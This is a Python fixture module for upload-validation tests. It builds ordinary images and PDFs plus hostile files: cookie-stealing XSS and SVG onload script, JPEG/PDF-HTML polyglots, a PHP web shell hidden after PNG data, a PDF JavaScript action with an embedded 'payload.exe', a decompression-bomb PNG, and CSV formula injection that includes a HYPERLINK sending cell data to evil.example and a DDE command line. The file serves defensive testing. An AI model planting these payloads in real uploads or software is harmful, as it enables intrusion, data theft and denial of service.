"""Files for upload tests, built in code: ordinary evidence and a corpus of hostile files."""

from __future__ import annotations

import io
import struct
import zlib
from functools import cache

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

SCRIPT = b"<script>alert(document.cookie)</script>"


def picture(kind: str = "PNG", *, size: int = 32, exif: Image.Exif | None = None) -> bytes:
    """A real picture with a pattern (so it has a perceptual hash), made with Pillow."""
    image = Image.new("RGB", (size, size))
    image.putdata(
        [
            ((x * 7) % 256, (y * 5) % 256, ((x + y) * 3) % 256)
            for y in range(size)
            for x in range(size)
        ]
    )
    buffer = io.BytesIO()
    image.save(buffer, kind, **({"exif": exif} if exif is not None else {}))
    return buffer.getvalue()


def pdf(*, catalog: dict | None = None, page: dict | None = None, password: str = "") -> bytes:
    """A one-page PDF made with pypdf; `catalog` and `page` add entries to those dictionaries."""
    writer = PdfWriter()
    blank = writer.add_blank_page(width=200, height=200)
    for key, value in (page or {}).items():
        blank[NameObject(key)] = value
    for key, value in (catalog or {}).items():
        writer.root_object[NameObject(key)] = value
    if password:
        writer.encrypt(user_password=password, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def javascript_action(code: str = "app.alert('hi')") -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def embedded_files() -> DictionaryObject:
    stream = DecodedStreamObject()
    stream.set_data(b"MZ payload")
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    spec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("payload.exe"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): stream}),
        }
    )
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("payload.exe"), spec])}
    )
    return DictionaryObject({NameObject("/EmbeddedFiles"): names})


def png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


@cache
def decompression_bomb(side: int = 20_000) -> bytes:
    """A greyscale PNG of side × side pixels, all black: a few hundred KB that decode to 400 MB."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (side + 1)  # filter byte + pixels
    rows_per_chunk = max(1, (1 << 20) // len(row))
    idat = b""
    for start in range(0, side, rows_per_chunk):
        idat += packer.compress(row * min(rows_per_chunk, side - start))
    idat += packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


def html_page_with_a_comma() -> bytes:
    # Line 1 has a comma, so a check of the first line alone took it for a CSV.
    return b"name,value\n<html><body>" + SCRIPT + b"</body></html>\n"


def jpeg_html_polyglot() -> bytes:
    """A JPEG that a browser sniffing for HTML would also run: markup after the image data."""
    return picture("JPEG") + b"<html><body>" + SCRIPT + b"</body></html>"


def pdf_html_polyglot() -> bytes:
    """A valid PDF with a page of HTML in a comment and after its end."""
    page = b"%<html><body>" + SCRIPT + b"</body></html>\n"
    document = pdf()
    header_end = document.index(b"\n") + 1
    return document[:header_end] + page + document[header_end:] + page


def php_after_a_png_signature() -> bytes:
    return b"\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>\n" + b"\x00" * 64


def png_with_php_after_its_end() -> bytes:
    return picture("PNG") + b"<?php system($_GET['c']); ?>"


def csv_with_formulas() -> bytes:
    return (
        b"order_id,sku,note\n"
        b'111-1,=HYPERLINK("http://evil.example/?"&A1;"click"),ok\n'
        b"111-2,MUG-1,=cmd|' /C calc'!A0\n"
        b"111-3,@SUM(A1:A2),-3\n"
    )
